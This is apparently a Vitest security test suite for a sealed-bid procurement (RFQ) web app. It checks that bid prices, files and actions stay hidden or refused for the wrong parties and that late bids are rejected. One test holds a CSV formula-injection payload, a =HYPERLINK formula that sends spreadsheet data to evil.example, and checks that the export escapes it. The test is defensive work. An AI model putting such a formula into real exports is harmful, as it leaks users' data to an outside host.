import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { getDb } from "../../app/db.server";
import { closeDueRfqs } from "../../app/domain/rfqs/close-due-rfqs.server";
import { submitBid } from "../../app/domain/rfqs/submit-bid.server";
import { action as bidAction, loader as bidLoader } from "../../app/routes/rfqs.$id_.bid";
import { action as compareAction, loader as compareLoader } from "../../app/routes/rfqs.$id_.compare";
import { loader as csvLoader } from "../../app/routes/rfqs.$id_.compare[.]csv";
import { action as rfqAction, loader as rfqLoader } from "../../app/routes/rfqs.$id";
import { loader as listLoader } from "../../app/routes/rfqs._index";
import { loader as fileLoader } from "../../app/routes/rfqs.$id_.files.$fileId";
import { cookieFor, formRequest, getRequest, settle } from "../support/factories";
import { multipartRequest } from "../support/listings";
import { approvedSupplier, bidInput, createBuyer, publishedRfq, submissionKey, type TestOrganization } from "../support/rfqs";

// Sealed bids through the HTTP layer: every loader, action and the CSV export, for the buyer before the
// deadline and for a competing supplier at any time. Prices are distinctive so any leak is found in the body.

const args = (request: Request, params: Record<string, string>) => ({ request, params, context: {} });
const PRICE_A = 123_457;
const PRICE_B = 98_765;

let buyer: TestOrganization;
let rival: TestOrganization;
let bidderA: TestOrganization;
let bidderB: TestOrganization;
let rfqId: number;
let lineId: number;
let deadline: Date;

function bodyOf(value: unknown): Promise<string> | string {
  if (value instanceof Response) return value.clone().text();
  return JSON.stringify(value ?? null);
}

async function expectNoPrices(value: unknown) {
  const text = await bodyOf(value);
  for (const secret of [String(PRICE_A), String(PRICE_B), "123.457", "98.765"]) expect(text).not.toContain(secret);
}

beforeEach(async () => {
  vi.useFakeTimers({ toFake: ["Date"] });
  vi.setSystemTime(new Date("2026-11-23T03:00:00.000Z"));
  buyer = await createBuyer();
  rival = await createBuyer();
  bidderA = await approvedSupplier();
  bidderB = await approvedSupplier();
  deadline = new Date("2026-11-30T08:00:00.000Z");
  const rfq = await publishedRfq(buyer, { deadline, now: new Date() });
  rfqId = rfq.rfqId;
  lineId = rfq.lineIds[0]!;
  for (const [bidder, price] of [
    [bidderA, PRICE_A],
    [bidderB, PRICE_B],
  ] as const) {
    await submitBid(getDb(), {
      rfqId,
      supplierId: bidder.organizationId,
      actorUserId: bidder.userId,
      input: bidInput([{ rfqLineId: lineId, quantity: 200, unitPrice: price }]),
      now: new Date(),
    });
  }
});

afterEach(() => {
  vi.useRealTimers();
});

describe("before the deadline", () => {
  it("the buyer sees only how many bids arrived: the RFQ page has the count, the matrix and CSV are refused (403)", async () => {
    const cookie = await cookieFor(buyer.userId, buyer.organizationId);
    const page = await settle(() => rfqLoader(args(getRequest(`/rfqs/${rfqId}`, cookie), { id: String(rfqId) })));
    expect(page.status).toBe(200);
    expect((page.value as { buyerView: { bidCount: number } }).buyerView.bidCount).toBe(2);
    await expectNoPrices(page.value);

    const matrix = await settle(() => compareLoader(args(getRequest(`/rfqs/${rfqId}/compare`, cookie), { id: String(rfqId) })));
    expect(matrix.status).toBe(403);
    await expectNoPrices(matrix.value);
    const csv = await settle(() => csvLoader(args(getRequest(`/rfqs/${rfqId}/compare.csv`, cookie), { id: String(rfqId) })));
    expect(csv.status).toBe(403);
    await expectNoPrices(csv.value);

    const list = await settle(() => listLoader(args(getRequest("/rfqs", cookie), {})));
    await expectNoPrices(list.value);
  });

  it("the buyer cannot award yet (409) and nothing is written", async () => {
    const cookie = await cookieFor(buyer.userId, buyer.organizationId);
    const bids = await getDb().selectFrom("bids").select("id").where("rfq_id", "=", rfqId).execute();
    const result = await settle(() =>
      compareAction(
        args(
          formRequest(
            `/rfqs/${rfqId}/compare`,
            { reason: "terlalu cepat", "allocations[0].bidId": String(bids[0]!.id), "allocations[0].rfqLineId": String(lineId), "allocations[0].quantity": "200" },
            { cookie },
          ),
          { id: String(rfqId) },
        ),
      ),
    );
    expect(result.status).toBe(409);
    expect(await getDb().selectFrom("awards").select("id").execute()).toHaveLength(0);
  });
});

describe("a competing supplier, at any time", () => {
  for (const when of ["before the deadline", "after the deadline"] as const) {
    it(`sees only its own bid ${when}`, async () => {
      if (when === "after the deadline") {
        vi.setSystemTime(new Date(deadline.getTime() + 1000));
        await closeDueRfqs(getDb(), new Date());
      }
      const cookie = await cookieFor(bidderB.userId, bidderB.organizationId);
      const own = await settle(() => bidLoader(args(getRequest(`/rfqs/${rfqId}/bid`, cookie), { id: String(rfqId) })));
      expect(own.status).toBe(200);
      const text = JSON.stringify(own.value);
      expect(text).toContain(String(PRICE_B));
      expect(text).not.toContain(String(PRICE_A));

      const page = await settle(() => rfqLoader(args(getRequest(`/rfqs/${rfqId}`, cookie), { id: String(rfqId) })));
      expect(page.status).toBe(200);
      expect(JSON.stringify(page.value)).not.toContain(String(PRICE_A));
      expect(JSON.stringify(page.value)).not.toContain(bidderA.legalName);

      // The comparison and its CSV are the buyer's: a supplier gets 403 (it does not buy) …
      const matrix = await settle(() => compareLoader(args(getRequest(`/rfqs/${rfqId}/compare`, cookie), { id: String(rfqId) })));
      expect(matrix.status).toBe(403);
      const csv = await settle(() => csvLoader(args(getRequest(`/rfqs/${rfqId}/compare.csv`, cookie), { id: String(rfqId) })));
      expect(csv.status).toBe(403);
      await expectNoPrices(csv.value);
    });
  }

  it("a buyer that is not this RFQ's gets 404 for the matrix and the CSV, even after the deadline", async () => {
    vi.setSystemTime(new Date(deadline.getTime() + 1000));
    const cookie = await cookieFor(rival.userId, rival.organizationId);
    for (const loader of [compareLoader, csvLoader]) {
      const result = await settle(() => loader(args(getRequest(`/rfqs/${rfqId}/compare`, cookie), { id: String(rfqId) })));
      expect(result.status).toBe(404);
      await expectNoPrices(result.value);
    }
  });

  it("cannot withdraw a competitor's bid by putting its id in the form (404), and nothing changes", async () => {
    const theirs = await getDb().selectFrom("bids").select(["id", "status"]).where("supplier_id", "=", bidderA.organizationId).executeTakeFirstOrThrow();
    const cookie = await cookieFor(bidderB.userId, bidderB.organizationId);
    const result = await settle(() =>
      bidAction(args(formRequest(`/rfqs/${rfqId}/bid`, { intent: "withdraw", bidId: String(theirs.id) }, { cookie }), { id: String(rfqId) })),
    );
    expect(result.status).toBe(404);
    const after = await getDb().selectFrom("bids").select("status").where("id", "=", theirs.id).executeTakeFirstOrThrow();
    expect(after.status).toBe("submitted");
  });

  it("cannot read a competitor's bid attachment (404)", async () => {
    const form = new FormData();
    form.set("submissionKey", submissionKey());
    form.set("leadTimeDays", "20");
    form.set("validUntil", "2027-01-31");
    form.set("lines[0].rfqLineId", String(lineId));
    form.set("lines[0].quantity", "200");
    form.set("lines[0].unitPrice", "123.457");
    form.set("attachment", new File([Buffer.from("%PDF-1.4\n%%EOF\n")], "penawaran-rahasia.pdf", { type: "application/pdf" }));
    const cookieA = await cookieFor(bidderA.userId, bidderA.organizationId);
    const revised = await settle(() => bidAction(args(multipartRequest(`/rfqs/${rfqId}/bid`, form, cookieA), { id: String(rfqId) })));
    expect(revised.status).toBe(302);
    const file = await getDb().selectFrom("rfq_files").select("id").where("rfq_id", "=", rfqId).where("bid_id", "is not", null).executeTakeFirstOrThrow();

    const own = await settle(() => fileLoader(args(getRequest(`/rfqs/${rfqId}/files/${file.id}`, cookieA), { id: String(rfqId), fileId: String(file.id) })));
    expect(own.status).toBe(200);
    const cookieB = await cookieFor(bidderB.userId, bidderB.organizationId);
    const theirs = await settle(() => fileLoader(args(getRequest(`/rfqs/${rfqId}/files/${file.id}`, cookieB), { id: String(rfqId), fileId: String(file.id) })));
    expect(theirs.status).toBe(404);
    // Nor the buyer before the deadline.
    const cookieBuyer = await cookieFor(buyer.userId, buyer.organizationId);
    const early = await settle(() => fileLoader(args(getRequest(`/rfqs/${rfqId}/files/${file.id}`, cookieBuyer), { id: String(rfqId), fileId: String(file.id) })));
    expect(early.status).toBe(404);
  });
});

describe("after the deadline", () => {
  it("the buyer gets the matrix and the CSV with both suppliers' prices, the lowest flagged", async () => {
    vi.setSystemTime(new Date(deadline.getTime() + 1000));
    const cookie = await cookieFor(buyer.userId, buyer.organizationId);
    const matrix = await settle(() => compareLoader(args(getRequest(`/rfqs/${rfqId}/compare`, cookie), { id: String(rfqId) })));
    expect(matrix.status).toBe(200);
    const bids = (matrix.value as { bids: { supplier: { legalName: string }; cells: Record<number, { unitPrice: number; lowest: boolean }> }[] }).bids;
    expect(bids.map((b) => [b.supplier.legalName, b.cells[lineId]!.unitPrice, b.cells[lineId]!.lowest])).toEqual([
      [bidderB.legalName, PRICE_B, true],
      [bidderA.legalName, PRICE_A, false],
    ]);
    const csv = await settle(() => csvLoader(args(getRequest(`/rfqs/${rfqId}/compare.csv`, cookie), { id: String(rfqId) })));
    expect(csv.status).toBe(200);
    const response = csv.value as Response;
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const text = await response.text();
    expect(text).toContain(`${bidderA.legalName},200,${PRICE_A}`);
    expect(text).toContain(`${bidderB.legalName},200,${PRICE_B}`);
  });

  it("CSV formula injection: a supplier named =HYPERLINK(…) lands in the buyer's CSV as text, not a formula", async () => {
    vi.setSystemTime(new Date(deadline.getTime() + 1000));
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    await getDb().updateTable("organizations").set({ legal_name: formula }).where("id", "=", bidderA.organizationId).execute();
    try {
      const cookie = await cookieFor(buyer.userId, buyer.organizationId);
      const csv = await settle(() => csvLoader(args(getRequest(`/rfqs/${rfqId}/compare.csv`, cookie), { id: String(rfqId) })));
      const text = await (csv.value as Response).text();
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
      expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    } finally {
      await getDb().updateTable("organizations").set({ legal_name: bidderA.legalName }).where("id", "=", bidderA.organizationId).execute();
    }
  });

  it("a bid one second after the deadline is refused through the form with the message, nothing written", async () => {
    vi.setSystemTime(new Date(deadline.getTime() + 1000));
    const cookie = await cookieFor(bidderA.userId, bidderA.organizationId);
    const form = new FormData();
    form.set("submissionKey", submissionKey());
    form.set("leadTimeDays", "20");
    form.set("validUntil", "2027-01-31");
    form.set("lines[0].rfqLineId", String(lineId));
    form.set("lines[0].quantity", "200");
    form.set("lines[0].unitPrice", "100.000");
    const before = await getDb().selectFrom("bid_versions").select("id").execute();
    const result = await settle(() => bidAction(args(multipartRequest(`/rfqs/${rfqId}/bid`, form, cookie), { id: String(rfqId) })));
    expect(result.status).toBe(409);
    // The form's message: the key, translated in the browser, with the deadline in WIB.
    const reply = result.value as { error: Record<string, string[]> };
    expect(reply.error[""]![0]).toMatch(/^error\.deadlinePassed\|.*30 Nov 2026, 15\.00 WIB/);
    expect(await getDb().selectFrom("bid_versions").select("id").execute()).toHaveLength(before.length);
  });

  it("a supplier cannot ask or answer as the buyer, nor publish or cancel the buyer's RFQ (403/404)", async () => {
    const cookie = await cookieFor(bidderA.userId, bidderA.organizationId);
    const question = await getDb()
      .insertInto("rfq_questions")
      .values({ rfq_id: rfqId, supplier_id: bidderB.organizationId, question: "?", asked_at: new Date().toISOString() })
      .returning("id")
      .executeTakeFirstOrThrow();
    const attempts: Record<string, string>[] = [
      { intent: "answer", questionId: String(question.id), answer: "jawaban palsu" },
      { intent: "cancel", reason: "iseng" },
      { intent: "publish" },
    ];
    for (const fields of attempts) {
      const result = await settle(() => rfqAction(args(formRequest(`/rfqs/${rfqId}`, fields, { cookie }), { id: String(rfqId) })));
      expect([403, 404]).toContain(result.status);
    }
    const rfq = await getDb().selectFrom("rfqs").select("status").where("id", "=", rfqId).executeTakeFirstOrThrow();
    expect(rfq.status).toBe("open");
    const q = await getDb().selectFrom("rfq_questions").select("answer").where("id", "=", question.id).executeTakeFirstOrThrow();
    expect(q.answer).toBeNull();
  });
});
